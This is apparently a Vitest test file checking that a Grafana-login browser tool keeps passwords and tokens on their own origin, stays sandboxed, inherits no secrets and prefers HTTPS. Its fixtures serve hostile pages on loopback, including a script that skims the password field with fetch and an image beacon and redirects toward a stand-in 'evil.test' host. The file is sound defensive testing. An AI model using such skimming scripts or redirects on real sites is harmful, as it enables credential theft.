/** Tokens and passwords go only to the origin that was asked for, by HTTPS where the Ingress has TLS. */
import { chmodSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { createServer, type RequestListener } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, describe, expect, it, vi } from 'vitest'
import { Blocked, Unmet } from '../../../support/basis/expectation'
import { configurationSchema } from '../../../support/configuration/schema'
import { fawkes } from '../../../support/flavours/fawkes/fawkes'
import { Browser } from '../../../support/platform/browser'
import { launchChromium } from '../../../support/platform/chromium'
import { GrafanaPages } from '../../../support/platform/grafana-pages'
import { Http } from '../../../support/platform/http'
import type { Kubernetes } from '../../../support/platform/kubernetes'
import { Routes } from '../../../support/platform/routes'

const closing: (() => unknown)[] = []
afterEach(async () => {
  vi.unstubAllEnvs()
  vi.restoreAllMocks()
  for (const close of closing.splice(0).reverse()) await close()
})

/** Serves on a loopback port and records what arrived: the URL, the headers and the body. */
async function serving(answer: RequestListener) {
  const arrived: string[] = []
  const server = createServer(async (request, response) => {
    let body = ''
    for await (const chunk of request) body += chunk
    arrived.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)} ${body}`)
    answer(request, response)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()))
  closing.push(
    () => server.close(),
    () => server.closeAllConnections(),
  )
  return { arrived, port: (server.address() as AddressInfo).port }
}

const password = 'gr4fana-passw0rd'
const form = (action = '') =>
  `<!doctype html><title>Login</title><link rel="icon" href="data:,"><form method="post" ${action}>
    <input name="user"><input name="password" type="password"><button type="submit">Log in</button></form>`

interface Served {
  readonly port: number
}

/** Grafana at one server and the UI at another. */
function routesTo(grafana: Served, ui: Served): Routes {
  const at = ({ port }: Served) => ({ host: '127.0.0.1', port })
  const to = async (part: string) =>
    part === 'grafana' ? { base: 'http://grafana.test', at: at(grafana) } : { base: 'http://ui.test', at: at(ui) }
  return { to } as Routes
}

describe('the password of Grafana', () => {
  type Answer = (other: string) => RequestListener
  const redirect =
    (status: number, path = '/login'): Answer =>
    (other) =>
    (_request, response) =>
      response.writeHead(status, { location: `${other}${path}` }).end()
  const page =
    (html: (other: string) => string): Answer =>
    (other) =>
    (_request, response) =>
      response.end(html(other))
  const onPost =
    (answer: Answer): Answer =>
    (other) =>
    (request, response) =>
      request.method === 'POST' ? answer(other)(request, response) : response.end(form())

  it.each<[string, Answer]>([
    ['a redirect of the login page', redirect(302)],
    ['a permanent redirect', redirect(308)],
    ['a script', page((other) => `<script>location = '${other}/login'</script>`)],
    ['a refresh', page((other) => `<meta http-equiv="refresh" content="0;url=${other}/login">`)],
    ['a form that sends to it', page((other) => form(`action="${other}/login"`))],
    ['a base of the page', page((other) => `<base href="${other}/">${form('action="login"')}`)],
    ['a button that sends to it', page((other) => form().replace('<button', `<button formaction="${other}/login"`))],
    ['a redirect of the sent form', onPost(redirect(307))],
    [
      'a script that reads the field',
      page(
        (other) => `${form()}<script>document.querySelector('[type=password]')
      .oninput = ({ target }) => { fetch('${other}/?' + target.value, { mode: 'no-cors' }); new Image().src = '${other}/?' + target.value }</script>`,
      ),
    ],
  ])('does not reach another judged origin by %s', async (_, answer) => {
    const other = await serving((_request, response) => response.end(form()))
    const own = await serving(answer('http://ui.test'))
    const routes = routesTo(own, other)
    const browser = new Browser(routes, { deadlineMs: 5000, witness: () => {} })
    closing.push(() => browser.close())
    const login = { user: 'admin', password }
    const dashboard = { uid: 'x', title: 'X', panels: [], variables: [] }
    const choice = { variables: {}, window: { start: 0, end: 1 }, deadlineMs: 2000, pictured: false }
    await new GrafanaPages(browser, routes, 2000).open(login, dashboard as never, choice).catch((error: unknown) => {
      expect(error).toBeInstanceOf(Unmet)
    })
    expect(other.arrived.join()).not.toContain(password)
    expect(own.arrived.length).toBeGreaterThan(0)
  })
})

describe('the token of Grafana', () => {
  it.each<[string, (other: string) => RequestListener]>([
    ['a redirect', (other) => (_request, response) => response.writeHead(302, { location: `${other}/` }).end()],
    [
      'a script',
      (other) => (_request, response) =>
        response.end(`<script>fetch('${other}/', { mode: 'no-cors' }); new Image().src = '${other}/x'</script>`),
    ],
  ])('reaches Grafana, and not another judged origin by %s', async (_, answer) => {
    const token = 'glsa_0123456789abcdef'
    const other = await serving((_request, response) => response.end('<title>other</title>'))
    const own = await serving(answer('http://ui.test'))
    const routes = routesTo(own, other)
    const browser = new Browser(routes, { deadlineMs: 5000, witness: () => {} })
    closing.push(() => browser.close())
    const dashboard = { uid: 'x', title: 'X', panels: [], variables: [] }
    const choice = { variables: {}, window: { start: 0, end: 1 }, deadlineMs: 5000, pictured: false }
    await new GrafanaPages(browser, routes, 5000)
      .open({ token }, dashboard as never, choice)
      .catch((error: unknown) => {
        expect(error).toBeInstanceOf(Unmet)
      })
    expect(own.arrived.join()).toContain(token)
    await expect.poll(() => other.arrived.length).toBeGreaterThan(0)
    expect(other.arrived.join()).not.toContain(token)
  })
})

describe('the browser', () => {
  it('connects to no origin that is not judged, and reports what a page asked for', async () => {
    const stranger = await serving((_request, response) => response.end())
    const own = await serving((_request, response) =>
      response.end(`<title>A page</title><img src="http://127.0.0.1:${stranger.port}/a"><iframe src="http://127.0.0.1:${stranger.port}/b"></iframe>
        <script>fetch('http://pages.test:${stranger.port}/c').catch(() => {})</script>`),
    )
    const witness = vi.fn()
    const routes = { to: async () => ({ base: 'http://pages.test', at: { host: '127.0.0.1', port: own.port } }) }
    const browser = new Browser(routes, { deadlineMs: 5000, witness })
    closing.push(() => browser.close())
    const late = () => ({ summary: 'late', object: 'page', expected: 'a page', found: 'none', remedy: [] })
    const shown = () => Promise.resolve()
    await browser.visit(await browser.window({}), { url: 'http://pages.test/', deadlineMs: 20_000, shown, late })
    expect(stranger.arrived).toEqual([])
    expect(JSON.stringify(witness.mock.calls)).toContain(`http://127.0.0.1:${stranger.port}: 2 requests, not sent`)
  })

  /** A program that records its arguments and its environment, and refuses to run in a sandbox if `refusal` says so. */
  async function launched(uid: number, refusal = '') {
    const folder = mkdtempSync(join(tmpdir(), 'fake-'))
    closing.push(() => rmSync(folder, { recursive: true, force: true }))
    const program = join(folder, 'chromium')
    writeFileSync(
      program,
      `#!/bin/sh\necho "$*" >> ${folder}/arguments\nenv > ${folder}/environment\ncase "$*" in *--no-sandbox*) ;; *) echo '${refusal}' >&2 ;; esac\nexit 1\n`,
    )
    chmodSync(program, 0o755)
    vi.stubEnv('CHROMIUM_PATH', program)
    vi.stubEnv('TMPDIR', folder)
    vi.spyOn(process as { getuid: () => number }, 'getuid').mockReturnValue(uid)
    const witness = vi.fn()
    await expect(launchChromium([], witness)).rejects.toBeInstanceOf(Blocked)
    const read = (name: string) => readFileSync(join(folder, name), 'utf8')
    return { starts: read('arguments').trim().split('\n'), environment: read('environment'), witness, folder }
  }

  it('runs in its sandbox, except as root and where the system does not allow it', async () => {
    expect((await launched(1000)).starts.map((given) => given.includes('--no-sandbox'))).toEqual([false])
    expect((await launched(0)).starts.map((given) => given.includes('--no-sandbox'))).toEqual([true])
    const fallen = await launched(1000, 'No usable sandbox!')
    expect(fallen.starts.map((given) => given.includes('--no-sandbox'))).toEqual([false, true])
    expect(fallen.witness).toHaveBeenCalledWith(expect.any(String), expect.stringContaining('without its sandbox'))
  })

  it('inherits no secret, and leaves no profile behind', async () => {
    for (const name of ['KUBECONFIG', 'DB_PASSWORD', 'GITHUB_TOKEN', 'HTTPS_PROXY']) vi.stubEnv(name, 'pr1vate-value')
    const { environment, folder } = await launched(1000)
    expect(environment).toContain('PATH=')
    expect(environment).not.toContain('pr1vate-value')
    expect(environment).not.toContain(`HOME=${process.env.HOME}\n`)
    expect(readdirSync(folder).filter((name) => name.startsWith('chromium-'))).toEqual([])
  })
})

describe('the HTTP client', () => {
  it.each([301, 302, 303, 307, 308])('follows no redirect, so no credential leaves its origin: %d', async (status) => {
    const other = await serving((_request, response) => response.end())
    const own = await serving((_request, response) =>
      response.writeHead(status, { location: `http://127.0.0.1:${other.port}/` }).end(),
    )
    const http = new Http({ deadlineMs: 5000, writes: true, witness: () => {} })
    closing.push(() => http.close())
    const headers = { authorization: 'Bearer t0ken' }
    const url = `http://127.0.0.1:${own.port}/`
    expect((await http.get(url, { headers })).status).toBe(status)
    expect((await http.query(url, '{}', { headers })).status).toBe(status)
    expect((await http.change('POST', url, '{}', { headers })).status).toBe(status)
    expect(other.arrived).toEqual([])
  })
})

describe('the route to a component', () => {
  const host = 'devlake.test'
  type Tls = readonly { hosts: readonly string[] }[]

  /** @param listeners the protocols of a Gateway that takes the place of the Ingress */
  async function routed(
    tls: Tls | 'forbidden',
    answers: Readonly<Record<string, number | string>>,
    listeners?: readonly string[],
  ) {
    const asked: string[] = []
    const http = {
      get: async (url: string) => {
        const { protocol } = new URL(url)
        asked.push(protocol)
        const answer = answers[protocol] ?? 404
        return typeof answer === 'number'
          ? { status: answer, headers: {} }
          : { status: 302, headers: { location: answer } }
      },
    } as unknown as Http
    const forbidden = new Blocked({ summary: 'no', object: 'x', expected: 'x', found: 'x', remedy: [] })
    const kubernetes = {
      api: { access: { insideCluster: false } },
      ingress: async () => {
        if (tls === 'forbidden') throw forbidden
        return { spec: { tls, rules: [] } }
      },
      gateways: { listenersOf: async () => (listeners ?? []).map((protocol) => ({ protocol })) },
      namespaceOf: () => 'fawkes',
      of() {
        return this
      },
      entry() {
        return this
      },
      service: async () => undefined,
      endpointSlices: async () => [],
    } as unknown as Kubernetes
    const configuration = configurationSchema(fawkes.names).parse({
      ingresses: { service: { host, ...(listeners ? { kind: 'HTTPRoute' } : {}) } },
    })
    const route = await new Routes(kubernetes, http, configuration).to('lake').catch(() => undefined)
    return { base: route?.base, asked: [...new Set(asked)] }
  }

  it.each<[string, Tls | 'forbidden']>([
    ['has TLS for the host', [{ hosts: [host] }]],
    ['has TLS for a wildcard', [{ hosts: ['*.test'] }]],
    ['has TLS without hosts', [{ hosts: [] }]],
    ['may not be read', 'forbidden'],
  ])('never uses HTTP if the Ingress %s, although it answers', async (_, tls) => {
    expect(await routed(tls, { 'http:': 200, 'https:': 200 })).toEqual({ base: `https://${host}`, asked: ['https:'] })
    expect(await routed(tls, { 'http:': 200 })).toEqual({ base: undefined, asked: ['https:'] })
    expect(await routed(tls, { 'https:': `http://${host}/` })).toEqual({ base: undefined, asked: ['https:'] })
  })

  it('never uses HTTP if a Gateway has TLS for the host', async () => {
    const both = { 'http:': 200, 'https:': 200 }
    for (const listeners of [['HTTP', 'HTTPS'], ['HTTPS']])
      expect(await routed([], both, listeners)).toEqual({ base: `https://${host}`, asked: ['https:'] })
    expect((await routed([], both, ['HTTP'])).base).toBe(`http://${host}`)
  })

  it('uses HTTP without TLS, and HTTPS if HTTP is redirected to the same host', async () => {
    expect((await routed([], { 'http:': 200 })).base).toBe(`http://${host}`)
    expect((await routed([{ hosts: ['other.test'] }], { 'http:': 200 })).base).toBe(`http://${host}`)
    expect((await routed([], { 'http:': `https://${host}/`, 'https:': 200 })).base).toBe(`https://${host}`)
    for (const target of [`https://${host}.evil.test/`, `https://${host}@evil.test/`])
      expect((await routed([], { 'http:': target, 'https:': 200 })).base).toBeUndefined()
  })
})
